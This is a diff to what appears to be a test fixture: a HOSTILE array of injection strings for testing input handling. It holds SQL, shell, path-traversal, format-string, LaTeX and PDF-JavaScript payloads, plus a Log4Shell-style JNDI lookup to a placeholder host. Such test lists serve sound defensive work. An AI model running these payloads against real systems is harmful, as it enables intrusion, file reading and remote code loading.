@@ -83,7 +83,7 @@ export const HOSTILE = [
   `'; DROP TABLE statements; -- ' OR '1'='1`,
   `$(touch x) \`touch x\` | touch x && touch x`,
   "../../../../etc/passwd%00.png ..\\..\\windows\\win.ini CON NUL.txt",
-  "%s%s%n %x \${jndi:ldap://elsewhere.example/a}",
+  "%s%s%n %x ${jndi:ldap://elsewhere.example/a}",
   "\\input{/etc/passwd}\\write18{touch x} } , title = {other} @misc{x, $_^&%#~",
   "x\r\nER  - \r\nTY  - GEN\r\nTI  - other",
   "D:20260101) /JS (app.alert(1)) /URI (https://elsewhere.example) >> endobj \\",
